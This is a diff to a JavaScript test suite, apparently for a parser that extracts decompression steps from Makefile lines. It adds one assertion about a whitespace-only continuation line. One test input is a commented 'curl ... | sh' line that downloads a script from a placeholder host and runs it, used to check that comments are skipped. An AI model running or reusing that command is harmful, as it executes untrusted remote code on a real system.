@@ -90,6 +90,7 @@ describe('committed generated files', () => {
     assert.deepEqual(stepsOf('CLEANFILES = gunzip gzexe zcat $(am__append_3) \\'), [])
     assert.deepEqual(stepsOf('@COND_X_TRUE@am__append_4 = unlzma lzcat'), [])
     assert.deepEqual(stepsOf('\tgunzip gzexe zcat \\'), [])
+    assert.deepEqual(stepsOf('  gunzip\t\\'), [])
     assert.notDeepEqual(stepsOf('\tzcat $(srcdir)/tests/a.gz'), [])
     assert.notDeepEqual(stepsOf('TEXT = xz -dc $(srcdir)/a'), [])
     assert.deepEqual(stepsOf('# curl -s https://files.example.invalid/x | sh'), [])
